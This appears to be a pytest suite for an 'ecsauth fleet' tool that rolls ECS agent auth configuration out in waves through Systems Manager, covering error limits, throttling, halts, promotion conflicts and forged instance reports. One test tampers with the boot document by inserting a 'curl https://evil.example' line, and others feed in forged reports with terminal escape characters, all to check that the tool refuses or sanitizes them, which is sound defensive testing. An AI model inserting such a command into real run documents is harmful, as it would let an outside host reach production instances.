"""`ecsauth fleet` on models of instances: what it decides in good and bad cases, over the API of the services."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import json_service
import pytest
from fleet_world import CANDIDATE, KEY, RELEASED, FleetWorld
from machine import auth_file

if TYPE_CHECKING:
    from canary import Canary
    from json_service import Call


def versions(world: FleetWorld) -> set[Any]:
    """Return the versions that are installed anywhere."""
    return {node.version for node in world.models}


def once(action: Any) -> Any:
    """Return a hook that does something before the first script only."""
    done: list[str] = []

    def hook(node: str, _script: str) -> None:
        if not done:
            done.append(node)
            action()

    return hook


def test_status(models: FleetWorld) -> None:
    """All instances are current, and the status is 0."""
    done = models.fleet("status")
    assert (done.status, done.out.split()[-2:]) == (0, ["current", "8"])


def test_groups(models: FleetWorld) -> None:
    """Each instance is in its group, and the status is 3."""
    version = models.store.put(CANDIDATE, f"{KEY}.candidate")
    ahead, rejected, lost, unmanaged, behind, stale = models.models[:6]
    ahead.forged = {"Ahead": version, "Installed": version}
    rejected.forged = {"Rejected": version}
    lost.connected, unmanaged.managed = False, False
    behind.forged, stale.forged = {"Installed": "older"}, {"LastRunStatus": "8"}
    models.engine.managed.collect()
    found = models.ask("status")
    wanted = {"ahead": 1, "behind": 1, "current": 2, "not registered": 1, "rejected": 1, "stale": 1, "unknown": 1}
    assert dict(sorted(found["groups"].items())) == wanted
    assert models.fleet("status").status == 3


def test_waves(models: FleetWorld) -> None:
    """Instance ID and version decide who is in which wave, and each wave is one command."""
    assert models.roll().status == 0
    order = models.order(models.candidates[0])
    assert [sorted(one["InstanceIds"]) for one in models.sent()] == [order[:1], sorted(order[1:4]), sorted(order[4:])]
    assert versions(models) == {models.candidates[0]}


def test_what_is_sent(models: FleetWorld) -> None:
    """Each command names version and hash of its document, the roll, and limits."""
    assert models.roll().status == 0
    first = models.sent()[0]
    document = models.engine.documents.find("ecsauth-boot")
    assert (first["DocumentVersion"], first["DocumentHash"]) == ("1", document.sha256)
    assert first["Comment"].startswith("ecsauth roll ")
    assert first["Parameters"] == {"Version": [models.candidates[0]]}
    assert {"MaxErrors", "MaxConcurrency", "TimeoutSeconds"} <= first.keys()


@pytest.mark.parametrize(("limit", "status"), [("0", 7), ("1", 0), ("50%", 0)])
def test_tolerated_errors(models: FleetWorld, limit: str, status: int) -> None:
    """One instance fails in the last wave: the limit decides whether that halts the roll."""

    def fail() -> None:
        models.engine.managed.nodes[models.order(models.candidates[0])[-1]].fails.add(models.candidates[0])  # type: ignore[attr-defined]

    models.engine.before_script = once(fail)
    assert models.roll(CANDIDATE, "--max-errors", limit).status == status
    assert (models.store.get(KEY) == CANDIDATE) is (status == 0)


def test_errors_over_batches(fleet_world: FleetWorld) -> None:
    """A wave of more than fifty instances is several commands, whose errors count together."""
    fleet_world.launch_models(120)

    def fail() -> None:
        order = fleet_world.order(fleet_world.candidates[0])
        for each in (order[10], order[70], order[110]):
            fleet_world.engine.managed.nodes[each].fails.add(fleet_world.candidates[0])  # type: ignore[attr-defined]

    fleet_world.engine.before_script = once(fail)
    done = fleet_world.roll(CANDIDATE, "--waves=1,100%", "--max-errors=2")
    assert (done.status, fleet_world.releases) == (7, [fleet_world.released])
    assert {len(one["InstanceIds"]) for one in fleet_world.sent()} == {1, 19, 50}


def test_targets_by_tag(fleet_world: FleetWorld) -> None:
    """With --targets the last wave, if it is large, is one command by tag: new instances are among its targets."""
    for node in fleet_world.launch_models(60):
        node.tags["Environment"] = "prod"
    done = fleet_world.roll(CANDIDATE, "--targets=Environment=prod", "--waves=1,100%")
    assert done.status == 0, done.err
    assert fleet_world.sent()[-1]["Targets"] == [{"Key": "tag:Environment", "Values": ["prod"]}]
    assert versions(fleet_world) == {fleet_world.candidates[0]}


def test_an_instance_launched_meanwhile(models: FleetWorld) -> None:
    """It boots from the released version, and is in a later wave of the same roll."""
    models.engine.before_script = once(lambda: models.launch_models(1))
    done = models.roll()
    assert done.status == 0, done.err
    assert (len(models.models), versions(models)) == (9, {models.candidates[0]})


def test_a_reboot_while_it_is_watched(models: FleetWorld) -> None:
    """ECS has lost the agents of those that have the candidate; at the next look they are back: the roll goes on."""
    looks: list[str] = []

    def come_back(call: Call) -> None:
        looks.append(call.operation)
        for node in models.models:
            node.connected = len(looks) % 2 == 1

    models.service.inject(come_back, operation="DescribeContainerInstances")
    done = models.roll(CANDIDATE, "--soak=5m")
    assert done.status == 0, done.err


def test_an_agent_that_stays_away(models: FleetWorld) -> None:
    """ECS has lost the agents of the first wave for good: the roll halts."""

    def lose() -> None:
        for node in models.models:
            node.connected = False

    models.engine.before_script = once(lose)
    done = models.roll(CANDIDATE, "--soak=5m")
    assert (done.status, models.releases) == (7, [models.released])
    assert "ECS has no connection to its agent" in done.err


def test_a_stopped_instance(models: FleetWorld) -> None:
    """It is no error: it is named, and takes the released version when it comes back."""
    models.models[0].online = False
    done = models.roll()
    assert done.status == 0, done.err
    assert f"1 instances were not reached: {models.models[0].id}" in done.err
    assert models.models[0].version == models.released


def test_an_instance_that_is_stopped_meanwhile(models: FleetWorld) -> None:
    """What cannot be delivered any more is no error."""

    def stop() -> None:
        models.engine.managed.nodes[models.order(models.candidates[0])[-1]].online = False

    models.engine.before_script = once(stop)
    done = models.roll()
    assert done.status == 0, done.err
    assert models.order(models.candidates[0])[-1] in done.err


def test_an_instance_that_is_terminated_meanwhile(models: FleetWorld) -> None:
    """Systems Manager refuses the whole command for it: it is sent to the others."""

    gone: list[str] = []

    def terminate(call: Call) -> None:
        if call.parameters["Comment"].endswith("wave 3/3") and not gone:
            gone.append(models.order(models.candidates[0])[-1])
            del models.engine.managed.nodes[gone[0]]

    models.service.inject(terminate, operation="SendCommand")
    done = models.roll()
    assert done.status == 0, done.err
    assert sum(1 for node in models.models if node.version == models.candidates[0]) == 7


def test_an_instance_that_hangs(models: FleetWorld) -> None:
    """Its command does not end in time: that is an error, and halts the roll."""
    for node in models.models:
        node.hangs = True
    done = models.roll()
    assert (done.status, models.releases) == (7, [models.released])
    assert "did not end in time" in done.err


def test_no_systems_manager(models: FleetWorld) -> None:
    """A roll refuses, puts nothing, and says what is left."""
    for node in models.models:
        node.managed = False
    done = models.roll()
    assert (done.status, models.candidates) == (4, [])
    assert "timers" in done.err


def test_one_without_systems_manager(models: FleetWorld) -> None:
    """A roll refuses and names the instance; with --skip-unmanaged it leaves it out."""
    models.models[3].managed = False
    done = models.roll()
    assert (done.status, models.models[3].id in done.err) == (4, True)
    assert models.roll(CANDIDATE, "--skip-unmanaged").status == 0
    assert versions(models) == {models.released, models.candidates[0]}


def test_an_alarm(models: FleetWorld) -> None:
    """An alarm that goes on while a wave runs halts the roll."""
    models.engine.before_script = once(lambda: models.engine.alarms.add("errors"))
    done = models.roll(CANDIDATE, "--alarm=errors", "--waves=8,100%")
    assert (done.status != 0, models.releases) == (True, [models.released])
    assert "errors" in done.err


def test_halt(models: FleetWorld) -> None:
    """What has not begun does not begin, and `resume` goes on with the rest."""

    def die(call: Call) -> None:
        if call.parameters["Comment"].endswith("wave 2/3"):
            models.cut_off_after(0)

    models.service.inject(die, operation="SendCommand")
    assert models.roll().status != 0
    models.mend()
    # The command of the second wave is there, and has not begun anywhere.
    models.engine.moves = False
    assert models.fleet("halt").status == 0
    models.engine.moves = True
    assert models.ask("status")["roll"]["state"] == "halted"
    assert [node.version for node in models.models].count(models.candidates[0]) == 1
    done = models.resume()
    assert done.status == 0, done.err
    assert versions(models) == {models.candidates[0]}


def test_a_second_roll(models: FleetWorld) -> None:
    """While one is in progress another one is refused, and puts nothing."""
    models.service.inject(json_service.expired, operation="SendCommand")
    assert models.roll().status != 0
    models.mend()
    done = models.roll(auth_file("the-other-candidate"))
    assert (done.status, len(models.candidates)) == (9, 1)
    assert "resume" in done.err


def test_promotion_conflict(models: FleetWorld) -> None:
    """Somebody released another version meanwhile: the candidate is not promoted over it."""
    models.engine.before_script = once(lambda: models.store.put(auth_file("a-hotfix"), KEY))
    done = models.roll(CANDIDATE, "--waves=100%")
    assert done.status == 9, done.err
    assert models.store.get(KEY) == auth_file("a-hotfix")


def test_promotion_conflict_at_the_last_moment(models: FleetWorld) -> None:
    """Somebody releases another version just before the copy: its condition refuses it."""
    from pushing import Meanwhile

    seen: list[str] = []

    class AtCopy(Meanwhile):
        def respond(self, request: Any, forward: Any) -> Any:
            if "x-amz-copy-source" in request.headers and not seen:
                seen.append(request.path)
                return super().respond(request, forward)
            return forward()

    models.proxy.inject(AtCopy(lambda: models.store.put(auth_file("a-hotfix"), KEY)), operation="PutObject")
    done = models.roll()
    assert (done.status, bool(seen)) == (9, True)
    assert models.store.get(KEY) == auth_file("a-hotfix")


def test_a_forged_success(models: FleetWorld) -> None:
    """An instance whose command fails, and which reports that it runs the candidate, halts the roll all the same."""

    def forge() -> None:
        version = models.candidates[0]
        for node in models.models:
            node.fails.add(version)
            node.forged = {"Ahead": version, "Installed": version, "AgentRegistered": "true"}
        models.engine.managed.collect()

    models.engine.before_script = once(forge)
    done = models.roll()
    assert (done.status, models.releases) == (7, [models.released])


@pytest.mark.parametrize(
    "forged",
    [
        {"Installed": "x" * 4096},
        {"Uri": "s3://other/ecs.config"},
        {"LastRunAt": "soon", "ConfirmedAt": "9" * 400},
        {"Installed": "\x1b[2J\u202e"},
        {"Rejected": "other", "AgentRegistered": "maybe"},
    ],
)
def test_forged_reports(models: FleetWorld, forged: dict[str, str]) -> None:
    """Whatever an instance reports: the command reads it, prints no control character, and others are not touched."""
    models.models[0].forged = forged
    models.engine.managed.collect()
    done = models.fleet("status")
    assert done.status in (0, 3), done.err
    assert "\x1b" not in done.out + done.err
    assert models.ask("status")["groups"]["current"] >= 7


def test_a_document_that_was_changed(models: FleetWorld) -> None:
    """A roll refuses before it puts anything."""
    content = models.engine.documents.find("ecsauth-boot").content
    models.engine.documents.put("ecsauth-boot", content.replace("ulimit -c 0", "curl https://evil.example"))
    done = models.roll()
    assert (done.status, models.candidates) == (4, [])
    assert "somebody has changed it" in done.err


def test_a_document_that_is_changed_meanwhile(models: FleetWorld) -> None:
    """Commands run the version that they name: the new one runs nowhere."""
    scripts: list[str] = []

    def change(_node: str, script: str) -> None:
        if not scripts:
            models.engine.documents.put("ecsauth-boot", "schemaVersion: '2.2'\n")
        scripts.append(script)

    models.engine.before_script = change
    done = models.roll()
    assert done.status == 0, done.err
    assert {one["DocumentVersion"] for one in models.sent()} == {"1"}


@pytest.mark.parametrize("service", ["ssm", "ecs"])
def test_throttling(models: FleetWorld, service: str) -> None:
    """Calls that are throttled are made again."""
    counts: dict[str, int] = {}

    def throttle(call: Call) -> None:
        counts[call.operation] = counts.get(call.operation, 0) + 1
        if call.service == service and counts[call.operation] % 3:
            json_service.throttle(call)

    models.service.inject(throttle)
    done = models.roll()
    assert done.status == 0, done.err
    assert versions(models) == {models.candidates[0]}


def test_throttling_without_end(models: FleetWorld) -> None:
    """The command gives up: unreachable."""
    models.service.inject(json_service.throttle, operation="DescribeInstanceInformation")
    done = models.fleet("status")
    assert done.status == 5
    assert "ThrottlingException" in done.err


def test_an_expired_session(models: FleetWorld) -> None:
    """The message says so and how to go on; after a new login `resume` does."""
    models.service.inject(json_service.expired, operation="ListCommandInvocations")
    done = models.roll()
    assert "expired" in done.err
    assert "ecsauth fleet resume" in done.err
    models.mend()
    assert models.resume().status == 0


def test_pages_and_lag(models: FleetWorld) -> None:
    """Empty pages before the first full one, and a history that lags behind, change nothing."""
    models.engine.pages.empty_first = models.clusters.pages.empty_first = True
    models.engine.lag = 2
    done = models.roll()
    assert done.status == 0, done.err
    assert versions(models) == {models.candidates[0]}
    assert models.fleet("status").status == 0


def test_the_same_content(models: FleetWorld) -> None:
    """A roll of what is released does nothing."""
    done = models.roll(RELEASED)
    assert (done.status, models.candidates) == (0, [])


def test_an_invalid_file(models: FleetWorld, canary: Canary) -> None:
    """It is refused before anything is put, and not quoted."""
    done = models.roll(f"ECS_ENGINE_AUTH_DATA={{{canary.password}\n".encode())
    assert (done.status, models.candidates) == (3, [])
    canary.assert_not_in(done.err, "standard error")
